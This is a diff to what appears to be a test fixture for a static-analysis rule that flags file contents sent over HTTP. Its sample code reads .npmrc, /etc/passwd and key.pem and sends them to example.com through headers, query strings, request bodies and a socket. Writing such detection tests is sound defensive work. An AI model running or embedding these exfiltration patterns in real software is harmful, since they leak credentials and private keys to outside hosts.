@@ -7,6 +7,7 @@ test('what a file holds, in the body, the headers or the address', () =>
     `
 import fs from 'node:fs';
 import https from 'node:https';
+import net from 'node:net';
 import axios from 'axios';
 const content = fs.readFileSync('.npmrc', 'utf8');
 https.get({ hostname: 'example.com', path: '/upload', method: 'GET', headers: { Referer: content } }, () => {}); // $ security/file-to-http
@@ -15,6 +16,14 @@ fs.readFile('/etc/passwd', 'utf8', (error, text) => {
   request.write(text); // $ security/file-to-http
   request.end();
 });
+https.get('https://example.com/?text=' + content, () => {}); // $ security/file-to-http
+const stream = fs.createReadStream('key.pem');
+stream.on('data', (piece) => {
+  https.request('https://example.com').write(piece); // $ security/file-to-http
+});
+stream.on('error', (error) => https.request('https://example.com').end(error));
+const socket = new net.Socket();
+socket.write(content); // $ security/file-to-http
 export async function a() {
   const text = await fs.promises.readFile('notes.txt', 'utf8');
   await axios.post('https://example.com/', { text: text.trim() }); // $ security/file-to-http
